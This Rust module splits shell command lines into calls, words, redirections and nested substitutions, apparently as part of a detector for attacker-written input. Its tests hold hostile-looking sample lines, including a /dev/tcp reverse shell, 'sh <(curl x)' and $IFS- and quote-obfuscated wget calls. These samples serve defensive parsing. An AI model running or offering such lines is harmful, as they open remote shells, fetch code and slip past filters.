//! Splits a command line as a shell does: into calls of programs, their words, and what joins them.
//!
//! In: bytes. Out: [`Call`]s, in their order. Runs nothing and expands nothing: `$x` stays `$x`. As
//! attackers write these lines, it reads `$IFS` as a space, and goes on if a quote is never closed.

/// Most calls of a line, and most words of a call.
const MAX_CALLS: usize = 48;
const MAX_WORDS: usize = 48;
/// Other ways to write a space.
const SPACES: [&[u8]; 5] = [b"${IFS}", b"$IFS$9", b"$IFS$1", b"$IFS", b"%IFS%"];

/// How a call is joined to the one before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Join {
    /// It runs after that one: `;`, `&&`, a line end.
    #[default]
    Then,
    /// It runs if that one fails: `||`.
    Or,
    /// It reads the output of that one: `|`.
    Pipe,
}

/// A program and its arguments.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Call {
    pub(super) join: Join,
    /// The words without quotes. The first one is the program.
    pub(super) words: Vec<Vec<u8>>,
    /// The file to which its output is written.
    pub(super) into: Option<Vec<u8>>,
    /// Lines that run first because their output is inserted: `$(…)` and backticks.
    pub(super) inner: Vec<Vec<u8>>,
    /// A `(` follows directly: this is a function of another language.
    pub(super) is_function: bool,
    /// The position in the line at which the call ends.
    pub(super) end: usize,
}

/// What the next word is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Next {
    #[default]
    Argument,
    /// The file for its output.
    Into,
    /// A file for its errors or its input.
    Other,
}

#[derive(Default)]
struct Reader<'a> {
    line: &'a [u8],
    at: usize,
    calls: Vec<Call>,
    call: Call,
    /// The word that has begun; `None` between words.
    word: Option<Vec<u8>>,
    next: Next,
    /// Quotes that are never closed in the rest of the line.
    endless: Vec<u8>,
    /// The line has a Windows path, so `\` is a part of paths.
    is_windows: bool,
}

/// Splits a line into calls.
pub(super) fn calls(line: &[u8]) -> Vec<Call> {
    let mut reader = Reader {
        line,
        is_windows: line.windows(2).any(|two| two == br":\"),
        ..Reader::default()
    };
    while reader.calls.len() < MAX_CALLS && reader.step() {}
    reader.end_call(Join::Then);
    reader.calls
}

impl Reader<'_> {
    fn rest(&self) -> &[u8] {
        self.line.get(self.at..).unwrap_or_default()
    }

    fn is_next(&self, bytes: &[u8]) -> bool {
        self.rest().starts_with(bytes)
    }

    /// Reads the next byte or sign. Returns `false` at the end.
    fn step(&mut self) -> bool {
        let Some(&byte) = self.rest().first() else {
            return false;
        };
        if let Some(space) = SPACES.iter().find(|space| self.is_next(space)) {
            self.at += space.len();
            self.end_word();
            return true;
        }
        match byte {
            b' ' | b'\t' => self.space(),
            b'\n' | b'\r' | 0 | b';' | b'(' | b')' => self.join(1, Join::Then),
            b'|' if self.is_next(b"||") => self.join(2, Join::Or),
            b'|' => self.join(1, Join::Pipe),
            b'&' if self.is_next(b"&&") => self.join(2, Join::Then),
            // `&>` redirects: the `>` is read next.
            b'&' if self.is_next(b"&>") => self.at += 1,
            b'&' => self.join(1, Join::Then),
            b'>' | b'<' => self.redirect(byte),
            b'#' if self.word.is_none() => self.comment(),
            b'\'' | b'"' => self.quoted(byte, false),
            b'`' => self.inner(1, b'`'),
            b'$' if self.is_next(b"$(") => self.inner(2, b')'),
            b'\\' => self.escape(),
            b'{' | b'}' if self.word.is_none() => self.brace(),
            _ => self.push(byte),
        }
        true
    }

    fn push(&mut self, byte: u8) {
        self.word.get_or_insert_default().push(byte);
        self.at += 1;
    }

    fn space(&mut self) {
        self.at += 1;
        self.end_word();
    }

    fn join(&mut self, bytes: usize, join: Join) {
        self.end_call(join);
        self.at += bytes;
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else {
            return;
        };
        match std::mem::take(&mut self.next) {
            Next::Into => self.call.into = Some(word),
            Next::Other => {}
            Next::Argument if self.call.words.len() < MAX_WORDS => self.call.words.push(word),
            Next::Argument => {}
        }
    }

    fn end_call(&mut self, join: Join) {
        let has_word = self.word.is_some();
        self.end_word();
        self.next = Next::Argument;
        self.call.is_function = has_word && self.is_next(b"(");
        self.call.end = self.at.min(self.line.len());
        let call = std::mem::take(&mut self.call);
        let is_empty = call.words.is_empty() && call.inner.is_empty();
        // This joins the next call. If this call is the first one and empty, it joins nothing.
        self.call.join = if is_empty && self.calls.is_empty() {
            Join::Then
        } else {
            join
        };
        if !is_empty {
            self.calls.push(call);
        }
    }

    fn comment(&mut self) {
        let end = self.rest().iter().position(|&byte| byte == b'\n');
        self.at += end.unwrap_or(self.rest().len());
    }

    /// Reads up to the closing quote. If there is none, the opening quote is ignored. `is_escaped`
    /// says that both quotes have a `\` before them, as in JSON.
    fn quoted(&mut self, quote: u8, is_escaped: bool) {
        self.at += 1;
        // If an earlier one was never closed, this one is not closed either.
        if self.endless.contains(&quote) {
            return;
        }
        let Some(length) = quoted_length(self.rest(), quote, is_escaped) else {
            self.endless.push(quote);
            return;
        };
        let mut text = self.rest()[..length].to_vec();
        self.at += length + 1;
        if quote == b'"' {
            self.call.inner.extend(inner_lines(&text));
        }
        if is_escaped && text.ends_with(br"\") {
            text.pop();
        }
        let word = self.word.get_or_insert_default();
        for (at, &byte) in text.iter().enumerate() {
            let is_escape = quote == b'"' && text[at..].starts_with(br#"\""#);
            if !is_escape {
                word.push(byte);
            }
        }
    }

    /// Reads a line whose output becomes part of the word.
    fn inner(&mut self, start: usize, end: u8) {
        let begins = self.rest().get(start..).unwrap_or_default();
        let length = inner_length(begins, end);
        let line = begins[..length].to_vec();
        // With the signs around it, if the closing one exists.
        let whole = (start + length + 1).min(self.rest().len());
        let text = self.rest()[..whole].to_vec();
        self.word.get_or_insert_default().extend(text);
        self.call.inner.push(line);
        self.at += whole;
    }

    fn redirect(&mut self, byte: u8) {
        // `2>` is for errors, `1>` and `>` for the output.
        let number = self.word.take_if(|word| matches!(word[..], [b'0'..=b'9']));
        self.end_word();
        self.at += 1;
        if self.is_next(b"(") {
            self.inner(1, b')');
            return;
        }
        while let Some(b'>' | b'<' | b'|') = self.rest().first() {
            self.at += 1;
        }
        let is_output = byte == b'>' && number.is_none_or(|number| number == b"1");
        if self.is_next(b"&") {
            self.at += 1;
            if let [b'0'..=b'9' | b'-', ..] = self.rest() {
                self.at += 1;
                return;
            }
        }
        self.next = if is_output { Next::Into } else { Next::Other };
    }

    fn escape(&mut self) {
        match self.rest().get(1) {
            // JSON writes a quote like this.
            Some(&quote @ (b'"' | b'\'')) => {
                self.at += 1;
                self.quoted(quote, true);
            }
            Some(b'/') | None => self.at += 1,
            Some(b'\n') => self.at += 2,
            Some(_) if self.is_windows => self.push(b'\\'),
            // `\n` in an escaped text is a line end.
            Some(b'n' | b'r') => self.join(2, Join::Then),
            Some(&next) => {
                self.at += 1;
                self.push(next);
            }
        }
    }

    /// Reads `{wget,http://…}`, a call without spaces. Skips any other brace.
    fn brace(&mut self) {
        let Some(list) = braced_list(self.rest()) else {
            self.at += 1;
            return;
        };
        let list = list.to_vec();
        self.at += list.len() + 2;
        for word in list.split(|&byte| byte == b',') {
            if self.call.words.len() < MAX_WORDS {
                self.call.words.push(word.to_vec());
            }
        }
    }
}

/// Returns the position of the closing quote. `is_escaped` says that a `\` may be before it.
fn quoted_length(text: &[u8], quote: u8, is_escaped: bool) -> Option<usize> {
    let mut before = 0;
    for (at, &byte) in text.iter().enumerate() {
        if byte == quote && (before != b'\\' || is_escaped) {
            return Some(at);
        }
        before = byte;
    }
    None
}

/// Returns the text between braces, if it has a comma and no space.
fn braced_list(text: &[u8]) -> Option<&[u8]> {
    let end = text.iter().position(|byte| b"} \t\n;".contains(byte))?;
    let list = text.get(1..end)?;
    (text[end] == b'}' && list.contains(&b',')).then_some(list)
}

/// Returns the length of a line inside another one: up to the backtick or the `)` that closes it.
pub(super) fn inner_length(begins: &[u8], end: u8) -> usize {
    let mut depth = 0_usize;
    for (at, &byte) in begins.iter().enumerate() {
        if byte == end && depth == 0 {
            return at;
        }
        match byte {
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    begins.len()
}

/// Returns the lines that run inside a text in double quotes.
fn inner_lines(text: &[u8]) -> Vec<Vec<u8>> {
    let mut lines = Vec::new();
    let mut at = 0;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        let (start, end) = match rest {
            [b'`', ..] => (1, b'`'),
            [b'$', b'(', ..] => (2, b')'),
            _ => {
                at += 1;
                continue;
            }
        };
        let begins = &rest[start..];
        let length = inner_length(begins, end);
        lines.push(begins[..length].to_vec());
        at += start + length + 1;
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Vec<(Join, String, Option<String>)> {
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        let one = |call: Call| {
            let words: Vec<_> = call.words.iter().map(|word| text(word)).collect();
            (
                call.join,
                words.join("_"),
                call.into.map(|file| text(&file)),
            )
        };
        calls(line.as_bytes()).into_iter().map(one).collect()
    }

    fn words(line: &str) -> Vec<String> {
        read(line).into_iter().map(|(_, words, _)| words).collect()
    }

    #[test]
    fn a_line_is_calls() {
        for (line, calls) in [
            ("cd /tmp;wget x", &["cd_/tmp", "wget_x"][..]),
            ("cd /tmp&&wget x & y\nz", &["cd_/tmp", "wget_x", "y", "z"]),
            ("wget${IFS}x$IFS-O$IFS$9y", &["wget_x_-O_y"]),
            ("w'ge't \"a b\" 'c\"d'", &["wget_a b_c\"d"]),
            (r"w\get x", &["wget_x"]),
            (r"copy C:\a\b.exe", &[r"copy_C:\a\b.exe"]),
            ("{wget,x,y};z", &["wget_x_y", "z"]),
            ("{ id; }", &["id"]),
            (r#"sh -c \"wget x\";"#, &["sh_-c_wget x"]),
            ("id # a; b\nc", &["id", "c"]),
            ("it's", &["its"]),
            ("ping $(id).a `b`", &["ping_$(id).a_`b`"]),
            ("", &[]),
            (";;||;", &[]),
        ] {
            assert_eq!(words(line), calls, "{line}");
        }
    }

    #[test]
    fn calls_are_joined() {
        let found = read("a||b|c;d");
        let joins: Vec<_> = found.iter().map(|(join, ..)| *join).collect();
        assert_eq!(joins, [Join::Then, Join::Or, Join::Pipe, Join::Then]);
    }

    #[test]
    fn redirections_are_no_words() {
        for (line, words, into) in [
            ("echo a>b", "echo_a", Some("b")),
            ("echo a >> b c", "echo_a_c", Some("b")),
            ("echo a 2>/dev/null 1>b", "echo_a", Some("b")),
            ("a 2>&1 </dev/null b", "a_b", None),
            (
                "bash -i >& /dev/tcp/a/1 0>&1",
                "bash_-i",
                Some("/dev/tcp/a/1"),
            ),
        ] {
            let (_, found, file) = read(line).remove(0);
            assert_eq!((&*found, file.as_deref()), (words, into), "{line}");
        }
    }

    #[test]
    fn lines_inside_are_found() {
        let inner = |line: &str| {
            let inner = calls(line.as_bytes()).remove(0).inner;
            inner
                .iter()
                .map(|line| String::from_utf8_lossy(line).into_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(inner("a $(b $(c) d)`e`"), ["b $(c) d", "e"]);
        assert_eq!(inner("a \"$(b)`c`\""), ["b", "c"]);
        assert_eq!(inner("sh <(curl x)"), ["curl x"]);
        assert_eq!(inner("a '$(b)'"), Vec::<String>::new());
        assert_eq!(inner("a $(b"), ["b"]);
    }
}
